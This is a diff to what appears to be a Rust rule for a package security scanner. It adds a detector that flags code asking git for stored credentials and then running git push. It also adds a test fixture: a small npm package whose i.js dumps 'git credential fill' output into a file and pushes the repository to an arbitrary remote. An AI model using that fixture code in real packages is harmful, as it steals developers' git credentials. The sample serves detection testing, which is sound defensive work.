@@ -92,6 +92,25 @@ if (fs.existsSync(root + "/Login Data")) {
             ],
         },
         Example {
+            name: "git's passwords are put where commits are pushed from",
+            severity: Some(Severity::High),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const fs = require("fs"), { spawnSync } = require("child_process");
+const git = (line, input) => spawnSync("git", line.split(" "), { input, encoding: "utf8" }).stdout;
+exports.sync = (dir, remote) => {
+  fs.writeFileSync(dir + "/notes", git("credential fill", "protocol=https\nhost=git.example\n\n"));
+  git("push -q " + remote + " HEAD:main");
+};"#,
+                ),
+            ],
+        },
+        Example {
             name: "a host that begins with the vendor's name is not the vendor",
             severity: Some(Severity::Critical),
             files: &[
@@ -126,6 +145,7 @@ exports.read = () => fs.readFileSync(os.homedir() + "/.npmrc", "utf8");"#,
 
 fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
     by_search(context, found);
+    by_push(context, found);
     for flow in context.flows {
         if flow.id != "credential-to-network" {
             continue;
@@ -203,6 +223,32 @@ fn by_search(context: &Context<'_>, found: &mut Vec<Finding>) {
         judge::by_reach(context, flow, &mut finding);
         found.push(finding);
     }
+}
+
+/// Git is asked for the passwords that it keeps, and commits are pushed by the same file.
+fn by_push(context: &Context<'_>, found: &mut Vec<Finding>) {
+    let asked = context.behaviours.iter().find(|one| {
+        let target = one.target.as_deref().unwrap_or("");
+        one.what.id == "credential.store" && target.starts_with("git credential fill")
+    });
+    let Some(asked) = asked else { return };
+    let pushed = context.behaviours.iter().find(|one| {
+        let is_push = one.target.as_deref().is_some_and(judge::pushes);
+        let mut sites = one.sites.iter();
+        one.what.id.starts_with("process.")
+            && is_push
+            && sites.any(|site| asked.sites.iter().any(|other| other.file == site.file))
+    });
+    let Some(pushed) = pushed else { return };
+    let command = pushed.target.as_deref().unwrap_or("git push");
+    let message = format!("asks git for the passwords that it keeps, and runs {command}");
+    let mut finding = Finding::of_behaviour(&FINDING, asked, message);
+    finding.severity = Severity::High;
+    finding.confidence = Confidence::Medium;
+    finding.evidence.extend(pushed.sites.iter().copied());
+    finding.evidence.sort_unstable();
+    finding.evidence.dedup();
+    found.push(finding);
 }
 
 /// What remains where a secret goes to the package's own host, or to a registry. Whoever writes
